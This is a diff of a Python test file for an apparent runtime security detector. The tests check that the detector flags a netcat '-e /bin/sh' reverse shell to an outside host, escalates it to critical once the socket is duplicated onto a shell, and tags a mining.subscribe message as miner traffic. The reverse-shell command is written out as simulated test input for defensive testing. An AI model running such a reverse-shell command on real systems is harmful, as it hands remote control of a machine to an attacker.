@@ -151,12 +151,18 @@ def test_bash_dev_tcp_reverse_shell_via_dup() -> None:
 
 def test_nc_e_style_child_execs_a_shell_on_the_socket() -> None:
     w = World()
-    w.exec(60, ["/usr/bin/nc", OUTSIDE, "4444", "-e", "/bin/sh"])
+    attempt = w.exec(60, ["/usr/bin/nc", OUTSIDE, "4444", "-e", "/bin/sh"])
+    assert ids(attempt) == ["RLG-SHL-002"]  # the intent, before any connect
+    assert attempt[0].severity == "high"
     w.connect(60, OUTSIDE, 4444, fd=3)
     w.fork(60, 61)
     w.dup(61, 3, 0)
     w.dup(61, 3, 1)
-    assert ids(w.exec(61, ["/bin/sh"], ppid=60)) == ["RLG-SHL-001"]
+    found = w.exec(61, ["/bin/sh"], ppid=60)
+    assert ids(found) == ["RLG-SHL-001", "RLG-SHL-002"]
+    # the behaviour confirms the attempt: a follow-up on the nc process, now critical
+    assert found[1].subject == attempt[0].subject
+    assert found[1].severity == "critical" and found[1].extra["follow_up"] is True
 
 
 def test_reverse_shell_to_an_internal_address_is_not_flagged() -> None:
@@ -169,7 +175,7 @@ def test_reverse_shell_to_an_internal_address_is_not_flagged() -> None:
 
 def test_pool_port_is_context_not_an_alert() -> None:
     w = World()
-    w.exec(80, ["/tmp/data-loader"])
+    w.exec(80, ["/opt/app/data-loader"])
     assert w.connect(80, OUTSIDE, 3333) == []
     f = w.send(80, OUTSIDE, 3333, b'{"id":1,"method":"mining.subscribe","params":["x/1"]}\n')
     assert ids(f) == ["RLG-MIN-001"]
@@ -179,7 +185,7 @@ def test_pool_port_is_context_not_an_alert() -> None:
 
 def test_pool_port_alert_mode() -> None:
     w = World(pool_port_connects="alert")
-    w.exec(81, ["/tmp/x"])
+    w.exec(81, ["/opt/x"])
     assert ids(w.connect(81, OUTSIDE, 3333)) == ["RLG-MIN-004"]
 
 
